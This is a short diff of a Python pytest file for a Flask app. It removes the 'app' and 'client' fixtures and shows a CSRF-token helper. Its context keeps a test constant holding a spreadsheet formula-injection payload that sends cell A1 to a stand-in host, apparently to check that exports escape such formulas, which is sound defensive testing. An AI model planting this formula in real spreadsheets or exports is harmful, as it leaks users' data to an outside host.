@@ -39,18 +39,6 @@ from tests.support.wait import wait_until
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
 
 
-@pytest.fixture
-def app(site: Site) -> Iterator[Flask]:
-    application = create_app(site.config, connect_bus=False, tuning=TEST_TUNING)
-    yield application
-    application.extensions["halfday.kiosk"].close()
-
-
-@pytest.fixture
-def client(app: Flask) -> FlaskClient:
-    return app.test_client()
-
-
 def form_token(client: FlaskClient, url: str) -> str:
     found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).text)
     assert found is not None, f"no form on {url}"
